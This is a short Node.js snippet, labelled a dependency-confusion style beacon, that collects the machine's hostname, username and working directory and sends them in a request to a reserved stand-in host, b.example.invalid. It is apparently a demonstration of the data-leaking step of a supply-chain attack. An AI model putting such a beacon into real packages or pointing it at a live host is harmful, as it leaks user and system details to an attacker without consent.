// Dependency-confusion style beacon (harmless: reserved .invalid host).
const os = require('os');
const https = require('https');
const q = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username, d: process.cwd() }).toString();
https.get('https://b.example.invalid/ping?' + q, () => {}).on('error', () => {});
